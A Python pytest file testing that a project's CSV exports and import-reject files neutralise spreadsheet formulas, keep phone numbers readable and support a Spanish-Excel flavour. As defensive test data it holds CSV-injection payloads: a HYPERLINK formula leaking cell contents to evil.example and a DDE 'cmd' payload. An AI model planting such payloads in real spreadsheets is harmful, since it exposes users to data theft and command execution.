"""Every CSV the project writes opens in a spreadsheet as text, never as a formula
(OWASP's CSV-injection rule); phone numbers stay readable; a Spanish-Excel flavour."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from aiohttp.test_utils import TestClient
from console_fixtures import Seed, login, make_attempt
from sqlalchemy import Engine

from compliance.registry_import import Reject, write_rejects
from store.db import transaction
from store.importing.csv_source import RowError
from store.importing.report import RejectsWriter
from store.models import Account
from store.spreadsheet import safe_cell

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Pagar")'
HOSTILE_REF = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("+525512340001", "+525512340001"),
        ("+52 55 1234 0001", "+52 55 1234 0001"),
        ("-12.50", "-12.50"),
        ("María López", "María López"),
        (None, ""),
        (42, "42"),
    ],
)
def test_given_a_cell_then_formulas_neutralised_and_numbers_kept(value: object, shown: str) -> None:
    assert safe_cell(value) == shown


async def test_given_imported_formulas_when_auditor_exports_attempts_then_cells_are_text(
    client: TestClient, seed: Seed, engine: Engine
) -> None:
    with transaction(engine) as session:
        account = session.get(Account, seed.account_id)
        assert account is not None
        account.debtor_name = HOSTILE_NAME
        account.external_ref = HOSTILE_REF
    make_attempt(engine, seed.account_id, seed.users["ana"])
    await login(client, "raul")
    resp = await client.get("/auditor/attempts.csv?date_from=2026-11-24")
    assert resp.status == 200
    rows = list(csv.DictReader(io.StringIO(await resp.text())))
    assert rows[0]["debtor_name"] == "'" + HOSTILE_NAME
    assert rows[0]["account_ref"] == "'" + HOSTILE_REF
    assert rows[0]["phone"] == "+525512340001"


async def test_given_excel_es_flavour_when_exporting_then_bom_and_semicolons(
    client: TestClient, seed: Seed, engine: Engine
) -> None:
    make_attempt(engine, seed.account_id, seed.users["ana"])
    await login(client, "raul")
    resp = await client.get("/auditor/attempts.csv?date_from=2026-11-24&flavour=excel-es")
    assert resp.status == 200
    body = (await resp.read()).decode("utf-8")
    assert body.startswith("\ufeffid;started_at;")
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    assert rows[0]["debtor_name"] == "María López Hernández"
    bad = await client.get("/auditor/attempts.csv?date_from=2026-11-24&flavour=lotus")
    assert bad.status == 400


def test_given_hostile_rows_when_writing_import_rejects_then_cells_are_text(tmp_path: Path) -> None:
    path = tmp_path / "accounts.rejects.csv"
    writer = RejectsWriter(path, ["external_ref", "debtor_name", "phone"])
    writer.write(7, [HOSTILE_REF, "@SUM(1)", "+525512340001"], [RowError(7, "balance", "required")])
    writer.close()
    rows = list(csv.reader(path.open(encoding="utf-8")))
    assert rows[1][:3] == ["'" + HOSTILE_REF, "'@SUM(1)", "+525512340001"]
    registry = tmp_path / "reus.rejects.csv"
    write_rejects(registry, [Reject(3, "not a number", "=cmd()")])
    assert list(csv.reader(registry.open(encoding="utf-8")))[1][0] == "'=cmd()"
